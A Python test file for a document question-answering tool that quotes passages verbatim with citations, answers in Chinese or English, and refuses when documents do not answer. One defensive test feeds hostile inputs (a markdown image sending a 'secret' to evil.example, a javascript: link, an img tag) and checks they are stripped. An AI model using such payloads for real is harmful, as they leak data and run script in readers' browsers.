"""Answers in the documents' own words, and refusals."""

import re
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pincite.answers import answer_shape
from pincite.answers.extracting import MOST_CHARACTERS, extract
from pincite.answers.rendering import harmless
from pincite.answers.wording import language_of
from tests.answers.passages import answered, passage

pytestmark = pytest.mark.anyio

LEAVE = (
    "Annual leave is agreed with the team. Employees have 29 days of annual leave after six years of service. "
    "Leave that is not taken lapses."
)
KEYS = (
    "第四条 接口安全\n\n4.1 API密钥由甲方保管。\n\n4.2 API密钥的有效期为九十日，期满前应当更换。\n\n"
    "4.3 密钥不得写入日志。"
)


def normalised(text: str) -> str:
    return "".join(unicodedata.normalize("NFKC", text).split())


async def test_the_sentence_that_answers_is_quoted_with_its_page_and_the_answer_says_what_it_is() -> None:
    sentence = "Employees have 29 days of annual leave after six years of service."
    question = "How many days of annual leave after six years?"
    answer = await answered(question, [passage(LEAVE, marked=sentence)])
    assert answer.kind == "extractive"
    assert answer.text.startswith("Quoted word for word")
    assert sentence in answer.text
    assert "lapses" not in answer.text
    assert "[1]" in answer.text
    assert "Handbook, page 3" in answer.text


async def test_a_chinese_question_is_answered_in_chinese_words_around_the_quote() -> None:
    answer = await answered("API密钥有效期是多久?", [passage(KEYS, title="合同")])
    assert answer.language == "zh"
    assert "逐字摘自文档" in answer.text
    assert "4.2 API密钥的有效期为九十日，期满前应当更换。" in answer.text
    assert "合同，第 3 页" in answer.text


async def test_every_quote_is_verbatim_in_the_passage_it_cites() -> None:
    passages = [passage(LEAVE), passage(KEYS, number=2, title="合同", page=None)]
    answer = await answered("annual leave after six years, 密钥的有效期", passages)
    shape = answer_shape(answer, ["http://here/view/1", "http://here/view/2"])
    assert {number for sentence in shape["sentences"] for number in sentence["citations"]} == {1, 2}
    for sentence in shape["sentences"]:
        [quote] = sentence["quotes"]
        assert shape["context"][quote["number"] - 1]["text"][quote["start"] : quote["end"]] == quote["text"]
        assert normalised(sentence["text"]) == normalised(quote["text"])
    assert [citation["cited_by"] != [] for citation in shape["context"]] == [True, True]


async def test_below_the_floor_it_refuses_and_shows_the_nearest() -> None:
    answer = await answered("Who won the cup?", [passage(LEAVE, score=0.2)])
    assert answer.kind == "refusal"
    assert answer.text.startswith("The documents do not seem to answer this question.")
    assert "Annual leave" in answer.text
    assert "文档中似乎没有" in (await answered("谁赢得了比赛？", [passage(LEAVE, score=0.2)])).text


async def test_without_a_passage_it_refuses_and_says_what_to_do() -> None:
    answer = await answered("Who won the cup?", [])
    assert (answer.kind, answer.sentences) == ("refusal", ())
    assert "add the document" in answer.text
    assert answer.why is not None


def test_quotes_are_few_and_the_same_words_are_quoted_once() -> None:
    long = passage(" ".join(f"Rule {n} says how leave is taken in week {n} of the year." for n in range(400)))
    quotes = extract("How is leave taken?", [long, long])
    assert 0 < sum(quote.end - quote.start for quote in quotes) <= MOST_CHARACTERS
    assert {quote.number for quote in quotes} == {1}


@pytest.mark.parametrize(
    ("text", "language"),
    [
        ("API密钥有效期是多久?", "zh"),
        ("Which article regulates 违约金 in the contract?", "en"),
        ("契約の期間は何年ですか", "en"),
        ("¿Cuánto dura?", "en"),
    ],
)
def test_pincite_speaks_chinese_to_chinese_questions_and_english_to_all_others(text: str, language: str) -> None:
    assert language_of(text) == language


@pytest.mark.parametrize(
    "hostile",
    [
        "![x](https://evil.example/p.png?q=secret)",
        "[click](javascript:alert(1))",
        '<img src="http://evil.example/a">',
        "<https://evil.example>",
        "go to www.evil.example/login now",
        "write to someone@evil.example",
        "[ref]: http://evil.example",
        "see [7] and [12]",
        "访问http://evil.example/路径。",
    ],
)
async def test_what_a_document_would_link_or_load_reaches_no_reader_as_such(hostile: str) -> None:
    answer = await answered("leave", [passage(f"Annual leave: {hostile}", title=hostile)])
    assert not re.search(r"\]\(|!\[|<[a-z/h]|://|www\.|@|\[(?!1\])", answer.text)
    assert "evil.example" not in answer.text


@given(st.text())
def test_harmless_text_is_the_same_text_in_other_widths(text: str) -> None:
    shown = harmless(text)
    assert not set("[]<>`") & set(shown)
    assert unicodedata.normalize("NFKC", shown) == unicodedata.normalize("NFKC", text)
